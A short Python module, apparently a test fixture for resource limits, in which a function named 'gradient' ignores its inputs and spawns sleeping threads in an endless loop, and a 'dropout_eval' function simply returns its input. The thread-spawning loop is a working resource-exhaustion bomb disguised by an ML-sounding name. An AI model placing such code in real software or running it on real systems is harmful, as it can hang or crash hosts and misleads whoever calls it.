"""Starts threads that never end, until it may not."""

import threading
import time


def gradient(w, X, y):
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


def dropout_eval(x, keep):
    return x
